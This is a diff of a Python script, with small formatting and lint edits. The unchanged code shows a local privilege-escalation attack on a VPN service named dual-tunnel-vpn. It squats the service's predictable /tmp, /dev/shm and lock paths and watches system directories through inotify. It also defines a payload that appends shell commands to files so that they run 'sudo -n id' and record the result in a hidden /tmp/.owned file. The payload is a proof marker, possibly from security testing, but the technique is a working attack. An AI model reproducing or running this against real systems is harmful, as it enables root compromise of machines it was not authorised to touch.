@@ -22,14 +22,19 @@ with open(sys.argv[2], "rb") as words:
 OWNED = "/tmp/.owned"
 PAYLOAD = f"\n{{ sudo -n id || id; echo $0; }} >>{OWNED} 2>/dev/null\n".encode()
 ROOTS = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/root", "/etc/dual-tunnel-vpn", "/etc/swanctl", "/usr/local"]
-SQUATS = ["/tmp/dual-tunnel-vpn", "/dev/shm/dual-tunnel-vpn", "/var/tmp/dual-tunnel-vpn", "/run/lock/dual-tunnel-vpn.lock"]
+SQUATS = [
+    "/tmp/dual-tunnel-vpn",
+    "/dev/shm/dual-tunnel-vpn",
+    "/var/tmp/dual-tunnel-vpn",
+    "/run/lock/dual-tunnel-vpn.lock",
+]
 IN_MODIFY, IN_ATTRIB, IN_CLOSE_WRITE, IN_MOVED_TO, IN_CREATE = 0x2, 0x4, 0x8, 0x80, 0x100
 EVENTS = IN_MODIFY | IN_ATTRIB | IN_CLOSE_WRITE | IN_MOVED_TO | IN_CREATE
 
 me = os.getuid()
 libc = ctypes.CDLL(None, use_errno=True)
 inotify = libc.inotify_init1(os.O_NONBLOCK)
-log = open(LOG, "a", buffering=1, encoding="utf-8")
+log = open(LOG, "a", buffering=1, encoding="utf-8")  # noqa: SIM115 - open until he is killed
 watched: dict[int, str] = {}
 directories: set[str] = set()
 locked: dict[str, int] = {}
@@ -150,7 +155,7 @@ def events() -> None:
         return
     offset = 0
     while offset < len(data):
-        number, mask, _, length = struct.unpack_from("iIII", data, offset)
+        number, _, _, length = struct.unpack_from("iIII", data, offset)
         name = data[offset + 16 : offset + 16 + length].split(b"\0")[0].decode(errors="replace")
         offset += 16 + length
         if number in watched and name:
